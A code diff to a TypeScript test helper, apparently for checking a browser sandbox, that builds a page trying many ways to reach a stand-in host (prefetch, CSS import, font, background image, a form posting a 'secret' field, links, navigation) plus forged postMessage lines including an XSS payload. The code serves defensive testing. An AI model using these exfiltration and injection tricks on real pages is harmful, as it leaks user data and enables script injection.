@@ -8,7 +8,8 @@ export function attacks(host: string): string {
 <link rel="prefetch" href="${host}/prefetch">
 <style>@import url("${host}/import.css"); @font-face { font-family: x; src: url("${host}/font") } p { font-family: x }</style>
 <p style="background: url(${host}/background)">text</p>
-<form id="form" method="post" action="${host}/form"><input name="secret" value="1"></form>
+<iframe name="inner"></iframe>
+<form id="form" method="post" target="inner" action="${host}/form"><input name="secret" value="1"></form>
 <a id="link" target="_top" href="${host}/link">link</a>
 <a id="blank" target="_blank" href="${host}/blank">blank</a>
 <script>
@@ -92,7 +93,8 @@ addEventListener("load", async () => {
   parent.postMessage({ ws101: "line", level: "log", text: "forged", line: -1 }, "*");
   parent.postMessage({ ws101: "line", level: "log", text: "<img src=x onerror=alert(1)>", line: null }, "*");
   await wait(300);
-  console.log("outcomes " + JSON.stringify(outcomes));
+  // Past the limit of the frame's console, which the blocked attempts have used up.
+  parent.postMessage({ ws101: "line", level: "log", text: "outcomes " + JSON.stringify(outcomes), line: null }, "*");
   await wait(100);
   location.href = "${host}/leave";
 });
